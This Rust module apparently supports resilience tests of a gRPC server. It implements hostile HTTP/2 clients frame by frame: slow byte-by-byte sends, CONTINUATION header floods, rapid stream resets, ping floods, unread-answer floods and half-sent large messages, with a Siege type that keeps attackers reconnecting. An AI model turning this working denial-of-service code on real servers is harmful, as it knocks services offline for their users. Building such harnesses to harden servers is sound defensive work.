//! Clients that mean no good: what they do on a connection to a gRPC server, frame by frame, since
//! no HTTP/2 library would do it for them.

use std::convert::Infallible;
use std::future::{Future, pending};
use std::io;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use http::HeaderValue;
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt};
use tokio::runtime::{Builder, Runtime};

/// How long a client that sends a byte at a time waits before the next.
const BYTE_EVERY: Duration = Duration::from_millis(20);

/// How long a client that was thrown out waits before it is back.
const BACK_AFTER: Duration = Duration::from_millis(100);

/// A flood comes in bursts, so that those who attack leave the machine time for others.
const BURST: u32 = 100;
const BURST_EVERY: Duration = Duration::from_millis(10);

/// Streams, pings and frames of one connection that a flood ends with, were nobody to stop it.
const FLOOD: u32 = 200_000;

/// Calls with half a message that one connection tries to make.
const HALF_MESSAGES: usize = 128;

/// Of a message that announces [`MESSAGE`] bytes, what is sent.
const HALF: &[u8] = &[0; 3 << 20];
const MESSAGE: u32 = 4 << 20;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types and flags of frames.
///
/// # Source
/// RFC 9113, 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What a client does with its connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Nothing.
    Silence,
    /// It sends a call a byte at a time.
    Dribble,
    /// It makes as many calls as it can and lets the server send nothing of the answers.
    UnreadAnswers,
    /// Its headers never end.
    EndlessHeaders,
    /// It gives up each call at once and makes the next.
    Resets,
    /// It asks whether the server is there, again and again, and reads no answer.
    Pings,
    /// On as many calls as it can it sends most of a large message.
    HalfMessages,
}

impl Attack {
    /// Every one.
    pub const ALL: [Self; 7] = [
        Self::Silence,
        Self::Dribble,
        Self::UnreadAnswers,
        Self::EndlessHeaders,
        Self::Resets,
        Self::Pings,
        Self::HalfMessages,
    ];

    /// Attacks the method at `path` until the server ends the connection, if it does.
    ///
    /// # Errors
    /// How the connection ended.
    pub async fn carry_out<S>(self, mut stream: S, path: &str) -> io::Result<()>
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        match self {
            Self::Silence => {}
            Self::Dribble => {
                let call = [opening(65_535), call(1, path)].concat();
                for byte in call {
                    stream.write_all(&[byte]).await?;
                    stream.flush().await?;
                    tokio::time::sleep(BYTE_EVERY).await;
                }
            }
            Self::UnreadAnswers => {
                stream.write_all(&opening(0)).await?;
                flood(&mut stream, 1_000, |number| call(2 * number + 1, path)).await?;
            }
            Self::EndlessHeaders => {
                stream.write_all(&opening(65_535)).await?;
                stream.write_all(&frame(HEADERS, 0, 1, &headers(path))).await?;
                let header = literal("x", &"y".repeat(500));
                flood(&mut stream, FLOOD, |_| frame(CONTINUATION, 0, 1, &header)).await?;
            }
            Self::Resets => {
                stream.write_all(&opening(65_535)).await?;
                let reset = |number| {
                    let id = 2 * number + 1;
                    [call(id, path), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
                };
                flood(&mut stream, FLOOD, reset).await?;
            }
            Self::Pings => {
                stream.write_all(&opening(65_535)).await?;
                flood(&mut stream, FLOOD, |_| frame(PING, 0, 0, &[0; 8])).await?;
            }
            Self::HalfMessages => return half_messages(stream, path).await,
        }
        stream.flush().await?;
        pending().await
    }
}

/// Hostile clients at work, on a thread of their own, so that they do not hold up those who call
/// beside them. They stop when this goes away.
#[derive(Debug)]
pub struct Siege(Option<Runtime>);

impl Siege {
    /// One without clients.
    ///
    /// # Errors
    /// When there can be no further thread.
    pub fn new() -> io::Result<Self> {
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
        Ok(Self(Some(runtime)))
    }

    /// Adds `count` clients that attack `path` over connections of `connect`. One that is thrown
    /// out comes back.
    pub fn add<C, F, S>(&self, count: usize, attack: Attack, path: &'static str, connect: C)
    where
        C: Fn() -> F + Clone + Send + 'static,
        F: Future<Output = io::Result<S>> + Send,
        S: AsyncRead + AsyncWrite + Unpin + Send,
    {
        let Some(runtime) = &self.0 else { return };
        for _ in 0..count {
            let connect = connect.clone();
            runtime.spawn(async move {
                loop {
                    if let Ok(stream) = connect().await {
                        // However it ended, the next one begins.
                        let _ = attack.carry_out(stream, path).await;
                    }
                    tokio::time::sleep(BACK_AFTER).await;
                }
            });
        }
    }
}

impl Drop for Siege {
    fn drop(&mut self) {
        if let Some(runtime) = self.0.take() {
            runtime.shutdown_background();
        }
    }
}

async fn flood<S>(stream: &mut S, count: u32, next: impl Fn(u32) -> Vec<u8>) -> io::Result<()>
where
    S: AsyncWrite + Unpin,
{
    for first in (0..count).step_by(BURST as usize) {
        let burst: Vec<u8> = (first..count).take(BURST as usize).flat_map(&next).collect();
        stream.write_all(&burst).await?;
        stream.flush().await?;
        tokio::time::sleep(BURST_EVERY).await;
    }
    Ok(())
}

/// Flow control is kept to, so that the server takes all that it is ready to take.
async fn half_messages<S>(stream: S, path: &str) -> io::Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (sender, connection) = h2::client::handshake(stream).await.map_err(io::Error::other)?;
    let ended = tokio::select! {
        ended = connection => ended,
        refused = send_halves(sender, path) => refused.map(|never| match never {}),
    };
    ended.map_err(io::Error::other)
}

async fn send_halves(sender: SendRequest<Bytes>, path: &str) -> Result<Infallible, h2::Error> {
    let mut held = Vec::new();
    for _ in 0..HALF_MESSAGES {
        let mut sender = sender.clone().ready().await?;
        let mut request = http::Request::new(());
        *request.method_mut() = http::Method::POST;
        *request.uri_mut() = format!("http://localhost{path}").parse().expect("a good path");
        let headers = request.headers_mut();
        headers.insert("content-type", HeaderValue::from_static("application/grpc"));
        headers.insert("workload.spiffe.io", HeaderValue::from_static("true"));
        let (answer, mut body) = sender.send_request(request, false)?;
        let length = [&[0], &MESSAGE.to_be_bytes()[..]].concat();
        body.send_data(Bytes::from(length), false)?;
        body.send_data(Bytes::from_static(HALF), false)?;
        held.push((answer, body));
    }
    pending().await
}

/// How a client begins: `window` is what the server may send of each answer.
fn opening(window: u32) -> Vec<u8> {
    let setting = [&4_u16.to_be_bytes()[..], &window.to_be_bytes()].concat();
    [PREFACE, &frame(SETTINGS, 0, 0, &setting)].concat()
}

/// A whole call with an empty message.
fn call(stream: u32, path: &str) -> Vec<u8> {
    let headers = frame(HEADERS, END_HEADERS, stream, &headers(path));
    [headers, frame(DATA, END_STREAM, stream, &[0; 5])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head, &stream.to_be_bytes()[..], payload].concat()
}

/// The headers of a call.
///
/// # Source
/// RFC 7541, appendix A: `:method: POST` and `:scheme: http` are entries 3 and 6 of the table.
fn headers(path: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("workload.spiffe.io", "true"),
    ] {
        block.extend(literal(name, value));
    }
    block
}

/// A header that stands in no table.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        // RFC 7541, 5.1: a length from 127 on goes on in bytes of seven bits.
        match u8::try_from(text.len()) {
            Ok(length) if length < 127 => bytes.push(length),
            _ => {
                bytes.push(127);
                let mut rest = text.len() - 127;
                while rest >= 128 {
                    bytes.push(u8::try_from(rest % 128).expect("seven bits") | 128);
                    rest /= 128;
                }
                bytes.push(u8::try_from(rest).expect("seven bits"));
            }
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}
